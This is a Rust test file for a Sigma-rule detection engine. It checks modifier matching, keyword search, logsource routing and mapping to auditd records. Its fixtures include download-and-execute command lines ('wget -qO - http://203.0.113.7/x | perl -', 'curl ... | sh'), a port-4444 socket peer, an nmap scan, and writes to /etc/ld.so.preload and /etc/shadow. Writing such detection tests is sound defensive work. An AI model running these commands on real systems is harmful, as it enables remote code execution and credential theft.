//! What matches: modifiers in rows, routing, own names, the clothes of auditd, what a detection says.

use super::*;
use serde_json::json;

#[test]
fn modifiers_match_as_sigma_says() {
    let curl =
        json!({"Image": "/usr/bin/curl", "CommandLine": "curl -s http://203.0.113.7/x -o /tmp/.x", "User": "root"});
    let net = json!({"DestinationIp": "10.1.2.3", "DestinationPort": 4444, "Initiated": true});
    let rows: &[(&str, &Json, bool)] = &[
        ("Image: /usr/bin/curl", &curl, true),
        ("Image: /USR/BIN/CURL", &curl, true),
        ("Image|cased: /USR/BIN/CURL", &curl, false),
        ("Image: curl", &curl, false),
        ("Image: '*/curl'", &curl, true),
        ("Image: '/usr/bin/c?rl'", &curl, true),
        ("Image|endswith: /curl", &curl, true),
        ("Image|startswith: /usr/", &curl, true),
        ("CommandLine|contains: http", &curl, true),
        ("CommandLine|contains|all: ['http', '-o']", &curl, true),
        ("CommandLine|contains|all: ['http', 'nope']", &curl, false),
        ("CommandLine|contains: ['nope', '-o']", &curl, true),
        ("CommandLine|re: 'https?://[0-9.]+/'", &curl, true),
        ("CommandLine|re: '^https'", &curl, false),
        ("CommandLine|re|i: 'CURL\\s+-S'", &curl, true),
        ("CommandLine|windash|contains: ' -s '", &curl, true),
        ("User|exists: true", &curl, true),
        ("Parent|exists: false", &curl, true),
        ("Parent: null", &curl, true),
        ("User: null", &curl, false),
        ("DestinationIp|cidr: 10.0.0.0/8", &net, true),
        ("DestinationIp|cidr: 192.168.0.0/16", &net, false),
        ("DestinationPort: 4444", &net, true),
        ("DestinationPort: '4444'", &net, true),
        ("DestinationPort|gte: 1024", &net, true),
        ("DestinationPort|lt: 1024", &net, false),
        ("Initiated: true", &net, true),
        ("Initiated: 'true'", &net, true),
        ("Image|contains: bin", &net, false),
    ];
    for (selection, fields, wanted) in rows {
        let (rules, report) = load(&rule(selection));
        assert!(!report.has_errors(), "{selection}: {:?}", report.skipped);
        let mut detector = Detector::new(rules);
        let matched = !run(&mut detector, &process("e", 0, (*fields).clone())).is_empty();
        assert_eq!(matched, *wanted, "{selection} on {fields}");
    }
}

#[test]
fn a_detection_says_what_matched_and_has_the_id_of_its_causes() {
    let (rules, _) =
        load(&format!("{}tags: [attack.t1105]\nlevel: high\n", rule("CommandLine|contains: ['wget', 'curl']")));
    let mut detector = Detector::new(rules);
    let seen = process("e7", 0, json!({"Image": "/usr/bin/curl", "CommandLine": "curl x"}));
    let detections = run(&mut detector, &seen);
    assert_eq!(detections.len(), 1);
    let detection = &detections[0];
    assert_eq!(detection.id, quell_model::Hash::of_parts(&[b"t", b"e7"]));
    assert_eq!(detection.rule.level.as_str(), "high");
    assert_eq!(detection.rule.tags[0].as_str(), "attack.t1105");
    assert_eq!(serde_json::to_value(&detection.matched).unwrap(), json!([{"field": "CommandLine", "value": "curl x"}]));
    assert_eq!(*detection.event, seen);
    assert_eq!(run(&mut detector, &seen)[0].id, detection.id, "the same cause again is the same detection");
}

#[test]
fn a_rule_without_level_is_medium() {
    let (rules, _) = load(&rule("Image: x"));
    assert_eq!(rules.refs().next().unwrap().level.as_str(), "medium");
}

#[test]
fn quells_own_names_are_fields_too() {
    let (rules, _) = load(&rule("process.stdio.socket: true\n    process.stdio.peer|startswith: '203.'"));
    let mut detector = Detector::new(rules);
    let own = json!({"process": {"stdio": {"socket": true, "peer": "203.0.113.7:4444"}}});
    assert_eq!(run(&mut detector, &event(Class::ProcessCreation, "e", 0, json!({}), own)).len(), 1);
    assert!(run(&mut detector, &process("f", 0, json!({}))).is_empty());
}

#[test]
fn known_but_absent_counts_as_absent() {
    let (rules, _) = load(&rule("container.id|exists: false"));
    assert_eq!(run(&mut Detector::new(rules), &process("e", 0, json!({}))).len(), 1);
}

#[test]
fn keywords_are_searched_in_every_field_and_anywhere_in_it() {
    let line = json!({"Image": "/usr/bin/bash", "CommandLine": "bash -c wget -qO - http://203.0.113.7/x | perl -"});
    let rows: &[(&str, bool)] = &[
        ("['http://', 'nothing']", true),
        ("['nothing']", false),
        ("['HTTP://']", true),
        ("['wget * - http* | perl']", true),
        ("['perl*wget']", false),
        ("['/bin/?ash']", true),
        ("[203]", true),
        ("{'|all': ['wget', '/usr/bin', 'perl']}", true),
        ("{'|all': ['wget', 'ruby']}", false),
        ("{'|all': ['wget*http', 'perl']}", true),
        ("{'|all': ['wget', 'perl'], Image|endswith: /bash}", true),
        ("{'|all': ['wget', 'perl'], Image|endswith: /zsh}", false),
    ];
    for (keywords, wanted) in rows {
        let rules = format!(
            "title: k\nlogsource: {{product: linux}}\ndetection:\n  keywords: {keywords}\n  condition: keywords\n"
        );
        let (rules, report) = load(&rules);
        assert!(report.skipped.is_empty(), "{keywords}: {:?}", report.skipped);
        let found = run(&mut Detector::new(rules), &process("e", 0, line.clone()));
        assert_eq!(!found.is_empty(), *wanted, "{keywords}");
        if *wanted {
            assert_eq!(serde_json::to_value(&found[0].matched).unwrap()[0]["field"], "keyword", "{keywords}");
        }
    }
}

#[test]
fn events_meet_only_the_rules_of_their_logsource() {
    let one = |name: &str, logsource: &str| {
        format!(
            "title: {name}\nname: {name}\nlogsource: {{{logsource}}}\ndetection:\n  s: {{User: root}}\n  condition: s\n---\n"
        )
    };
    let rules = [
        one("exact", "category: process_creation, product: linux"),
        one("category", "category: process_creation"),
        one("product", "product: linux"),
        one("windows", "category: process_creation, product: windows"),
        one("file", "category: file_event, product: linux"),
        one("service", "product: linux, service: sshd"),
    ];
    let (rules, report) = load(&rules.concat());
    assert_eq!(report.rules.len(), 6, "{:?}", report.skipped);
    let mut detector = Detector::new(rules);
    let found = run(&mut detector, &process("e", 0, json!({"User": "root"})));
    assert_eq!(names(&found), ["exact", "category", "product"]);
    // A record of which nobody knows where it comes from is offered to all.
    let mut record = event(Class::Record, "r", 0, json!({"User": "root"}), json!({}));
    record.logsource = LogSource::default();
    assert_eq!(run(&mut detector, &record).len(), 6);
}

fn auditd(selection: &str) -> Arc<Rules> {
    let text = format!(
        "title: t\nlogsource:\n  product: linux\n  service: auditd\n  definition: '-w /usr/bin/nmap -p x -k scan'\n\
         detection:\n  s: {{{selection}}}\n  condition: s\n"
    );
    let (rules, report) = load(&text);
    assert!(report.skipped.is_empty(), "{selection}: {:?}", report.skipped);
    rules
}

#[test]
fn the_sensors_events_answer_as_auditds_records() {
    let run_nmap = event(
        Class::ProcessCreation,
        "e",
        0,
        json!({}),
        json!({"process": {"image": "/usr/bin/nmap", "args": ["nmap", "-sS", "10.0.0.0/8"], "uid": 0, "pid": 7}}),
    );
    let write = event(
        Class::FileEvent,
        "f",
        0,
        json!({}),
        json!({"process": {"image": "/usr/bin/vi"}, "file": {"path": "/etc/ld.so.preload", "operation": "create"}}),
    );
    let connect = event(
        Class::NetworkConnection,
        "n",
        0,
        json!({}),
        json!({"process": {"image": "/usr/bin/a-rather-long-name"}, "network": {"direction": "outbound"}}),
    );
    let rows: &[(&str, &OwnedEvent, bool)] = &[
        ("type: EXECVE, a0: nmap, a1: '-sS'", &run_nmap, true),
        ("type: execve, a2|startswith: '10.'", &run_nmap, true),
        ("type: EXECVE, a3|exists: true", &run_nmap, false),
        ("type: EXECVE, argc: 3", &run_nmap, true),
        ("type: EXECVE, comm: nmap", &run_nmap, false),
        ("type: SYSCALL, comm: nmap, exe|endswith: /nmap, success: 'yes'", &run_nmap, true),
        ("type: SYSCALL, SYSCALL: execve, uid: 0, pid: 7", &run_nmap, true),
        ("key: scan", &run_nmap, true),
        ("type: PATH, name: /usr/bin/nmap, nametype: NORMAL", &run_nmap, true),
        ("type: PATH, name: /etc/ld.so.preload, nametype: CREATE", &write, true),
        ("type: SYSCALL, SYSCALL: openat, comm: vi", &write, true),
        ("type: EXECVE", &write, false),
        ("type: SYSCALL, SYSCALL: connect, comm: a-rather-long-n", &connect, true),
        ("type: PATH", &connect, false),
        ("type: USER_LOGIN", &run_nmap, false),
    ];
    for (selection, event, wanted) in rows {
        let found = run(&mut Detector::new(auditd(selection)), event);
        assert_eq!(!found.is_empty(), *wanted, "{selection} on {}", event.head.id);
        assert!(found.len() <= 1, "{selection}: an event is one event, whatever it wears");
    }
}

#[test]
fn hostile_values_break_nothing() {
    let (rules, _) = load(&rule("CommandLine|contains: needle"));
    let mut detector = Detector::new(rules);
    let long = format!("{}needle\u{1b}[31m\0\n\r", "x".repeat(5_000_000));
    let found = run(&mut detector, &process("e", 0, json!({"CommandLine": long})));
    assert_eq!(found.len(), 1);
    let told = found[0].matched[0].value.as_str().unwrap();
    assert!(told.len() < 5_000 && told.contains("bytes in all"));
    let mut deep = json!("needle");
    for _ in 0..500 {
        deep = json!([deep]);
    }
    assert!(run(&mut detector, &process("f", 0, json!({"Nested": deep}))).is_empty());
}

#[test]
fn a_file_that_was_only_read_is_for_rules_that_ask_for_it() {
    let one = |name: &str, category: &str, selection: &str| {
        format!(
            "title: {name}\nname: {name}\nlogsource: {{category: {category}, product: linux}}\ndetection:\n  s: {{{selection}}}\n  condition: s\n---\n"
        )
    };
    let rules = [
        one("written", "file_event", "TargetFilename|startswith: /etc/"),
        one("asked", "file_event", "TargetFilename|startswith: /etc/, file.operation: read"),
        one("access", "file_access", "TargetFilename|startswith: /etc/"),
        one("gone", "file_delete", "TargetFilename|startswith: /etc/"),
        one("path", "file_event", "nothing: 1")
            .replace("category: file_event, ", "service: auditd, ")
            .replace("nothing: 1", "type: PATH"),
    ];
    let (rules, report) = load(&rules.concat());
    assert!(report.skipped.is_empty(), "{:?}", report.skipped);
    let mut detector = Detector::new(rules);
    let rows: &[(&str, &[&str])] = &[
        ("create", &["written", "path"]),
        ("write", &["written", "path"]),
        ("read", &["asked", "access"]),
        ("unlink", &["gone", "path"]),
    ];
    for (operation, wanted) in rows {
        let own = json!({"file": {"path": "/etc/shadow", "operation": operation}});
        let seen = event(Class::FileEvent, operation, 0, json!({"TargetFilename": "/etc/shadow"}), own);
        assert_eq!(names(&run(&mut detector, &seen)), *wanted, "{operation}");
    }
}

#[test]
fn auditds_own_log_meets_the_same_rules() {
    let log = "type=SYSCALL msg=audit(1770000000.250:42): arch=c000003e syscall=103 success=yes a0=5 comm=\"dmesg\" exe=\"/usr/bin/dmesg\"\n\
        type=EXECVE msg=audit(1770000000.250:43): argc=2 a0=\"nmap\" a1=\"-sS\"\n";
    let events: Vec<OwnedEvent> =
        crate::adapt::read(None, std::path::Path::new("audit.log"), log.as_bytes()).map(|read| read.unwrap()).collect();
    let rows =
        [("type: SYSCALL, SYSCALL: syslog, a0: [4, 5, 6]", 0), ("type: EXECVE, a0: nmap, a1: '-sS'", 1), ("nmap", 1)];
    for (selection, hit) in rows {
        let rules = if selection == "nmap" {
            load("title: k\nlogsource: {service: auditd}\ndetection:\n  keywords: [nmap]\n  condition: keywords\n").0
        } else {
            auditd(selection)
        };
        let mut detector = Detector::new(rules);
        let found: Vec<usize> = (0..2).filter(|at| !run(&mut detector, &events[*at]).is_empty()).collect();
        assert_eq!(found, [hit], "{selection}");
    }
}

#[test]
fn a_line_feed_does_not_hide_the_rest() {
    let event = process("e", 0, json!({"CommandLine": "curl -s\nhttp://203.0.113.7/x |\nsh"}));
    let rows = ["CommandLine: 'curl*sh'", "CommandLine|contains: 'curl*| sh'", "CommandLine|re: 'curl.*sh$'"];
    for selection in rows {
        let found = run(&mut Detector::new(load(&rule(selection)).0), &event);
        assert_eq!(found.len(), 1, "{selection}");
        assert_eq!(found[0].matched[0].value, event.sigma["CommandLine"], "{selection}: told as it was");
    }
}

#[test]
fn the_keys_of_auditds_watches_are_given_for_all_that_a_watch_is_about() {
    let rule = |key: &str, watch: &str| {
        format!(
            "title: {key}\nname: {key}\nlogsource:\n  product: linux\n  service: auditd\n  \
             definition: '-w {watch} -k {key}'\ndetection:\n  s: {{key: {key}}}\n  condition: s\n"
        )
    };
    let (rules, _) = load(
        &[
            rule("one", "/usr/bin/nmap -p x"),
            rule("two", "/bin/nmap -p x"),
            rule("below", "/etc/cron.d/ -p wa"),
            rule("beside", "/etc/cron -p wa"),
            rule("usr", "/usr -p w"),
        ]
        .join("---\n"),
    );
    let ran = |image: &str| event(Class::ProcessCreation, "e", 0, json!({}), json!({"process": {"image": image}}));
    let wrote = |path: &str| {
        let own = json!({"process": {"image": "/bin/vi"}, "file": {"path": path, "operation": "create"}});
        event(Class::FileEvent, "f", 0, json!({}), own)
    };
    let rows: &[(OwnedEvent, &[&str])] = &[
        (ran("/usr/bin/nmap"), &["one", "two"]),
        (ran("/usr/bin/nmap-not"), &[]),
        (wrote("/etc/cron.d/x/y"), &["below"]),
        (wrote("/etc/cron.d"), &["below"]),
        (wrote("/etc/cron.daily/é"), &[]),
        (wrote("/usr/share/x"), &["usr"]),
    ];
    for (event, wanted) in rows {
        let found = run(&mut Detector::new(rules.clone()), event);
        let mut found = names(&found);
        found.sort_unstable();
        assert_eq!(found, *wanted, "{:?}", event.own);
    }
}
